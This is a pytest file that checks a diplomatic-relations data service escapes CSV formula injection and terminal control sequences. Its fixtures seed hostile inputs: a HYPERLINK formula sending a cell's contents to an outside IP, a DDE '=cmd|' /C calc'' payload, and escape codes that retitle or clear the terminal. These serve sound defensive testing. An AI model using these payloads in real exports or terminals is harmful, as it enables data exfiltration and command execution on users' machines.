"""Tables of every question, picture and command, over a graph whose author wants them to run something: in a spreadsheet, or a terminal."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from legation.graph import projection
from legation.graph.claims import Claim, Source
from legation.graph.store import Store, open_store
from legation.graph.write import Writer
from legation.loaders import starter
from legation.loaders.frame import registry
from legation.loaders.frame.run import load
from legation.service.cli import output
from legation.service.http.app import create_app
from legation.service.pictures.declaration import pictures
from legation.service.settings import Settings
from legation.service.tables.text import _FORMULA, _NUMBER

BAD = '=HYPERLINK("http://203.0.113.9/?"&A1)'
PAPER = Source(
    publisher=BAD, publication="+1+1", title="@SUM(A1)", author="-2+3|cmd", url="=1", edition="=2", licence="=3", citation="=4",
    published="2020",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """The starter claims, and others all of whose free texts begin like formulas."""
    store = open_store(f"embedded:{tmp_path_factory.mktemp('hostile') / 'graph'}")
    load(store, registry.find("claims"), starter.path())
    common: dict[str, Any] = {"subject": "ISR", "object": "AZE", "source": PAPER, "locator": "=5", "quote": "=6"}
    made = [
        Claim(**common, kind="recognized", when="1991"),
        Claim(**common, kind="relations_established", when="1992"),
        Claim(**common, kind="mission_opened", when="1993", mission="embassy", place="=12", object_text="=7"),
        Claim(**common, kind="treaty_signed", when="2001", subject_text="=8"),
        Claim(**common, kind="arms_share", when="2016/2020", value=1, unit="percent", base="object_imports", scope="=9"),
        Claim(**common, kind="arms_transfer", when="2019", details={"designation": "=10"}),
    ]
    Writer(store).add(made)
    projection.run(store)
    yield store
    store.close()


def cells(text: str) -> list[str]:
    """Every cell of a table."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_no_table_of_any_route_runs_in_a_spreadsheet(hostile: Store) -> None:
    app = create_app(Settings(rate="off"), hostile)
    seen = guarded = 0
    with TestClient(app, raise_server_exceptions=False) as client:
        for address, asked in addresses(client):
            answer = client.get(address, params={**asked, "format": "csv"})
            if answer.status_code != 200 or not answer.headers["content-type"].startswith("text/csv"):
                continue
            seen += 1
            for cell in cells(answer.text):
                assert not cell.startswith(_FORMULA) or _NUMBER.fullmatch(cell), (address, cell)
                guarded += cell.startswith(("'=", "'+", "'-", "'@"))
    assert seen > 30, "most questions were answered"
    assert guarded > 20, "and the texts were in the answers"


def addresses(client: TestClient) -> Iterator[tuple[str, dict[str, Any]]]:
    """Each question and picture, asked about the two parties whom the hostile claims are about."""
    usual = {
        "recipient": "AZE", "supplier": "ISR", "party": "ISR", "a": "ISR", "b": "AZE", "from": 2016, "to": 2020, "host": "AZE",
        "sender": "ISR",
        "target": "AZE", "observer": "ISR", "q": "Aze", "since": "2000-01-01", "period": "1993", "organisation": "EU", "left": "TWN",
        "taken": "CHN", "id": "ISR", "later_from": 2017, "later_to": 2021, "kind": "recognized",
    }  # fmt: skip
    for question in client.app.state.questions:  # type: ignore[attr-defined]
        path, asked = question.path, {}
        for one in question.parameters:
            if one.in_path:
                path = path.replace(f"{{{one.name}}}", str(usual.get(one.name, one.example)))
            elif one.name in usual and one.required:
                asked[one.name] = usual[one.name]
            elif one.required:
                asked[one.name] = one.example
        yield path, asked
        yield (
            path,
            {**asked, **{one.name: usual[one.name] for one in question.parameters if one.name in ("party", "host", "target", "sender")}},
        )
    for one in pictures().values():
        yield one.path.replace("{form}", "csv"), {name: value for name, value in usual.items() if name in one.by_name}


def test_tables_of_the_command_line_are_guarded_too() -> None:
    text = output.csv_of([{"file": "=cmd|' /C calc'!A0.csv", "rows": -5, "why": "@SUM(A1)", "more": ["=1"]}])
    assert cells(text)[4:] == ["'=cmd|' /C calc'!A0.csv", "-5", "'@SUM(A1)", '["=1"]']


def test_no_text_of_a_source_steers_the_terminal(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """An escape that sets the window's title, one that clears the screen, a line that is written over, and the 8-bit forms of them."""
    text = "\x1b]0;owned\x07\x1b[2Jharmless\rother\x9b2J\x7f\x00"
    assert output.cell(text) == "␛]0;owned␇␛[2Jharmless␍other\ufffd2J␡␀"
    output.notes([text])
    output.table(text, [("a", False)], [(text,)])
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    output.write(text)
    said = capsys.readouterr().out
    assert "harmless" in said
    assert not set(said) & {chr(number) for number in (*range(9), *range(11, 32), 0x7F, *range(0x80, 0xA0))}
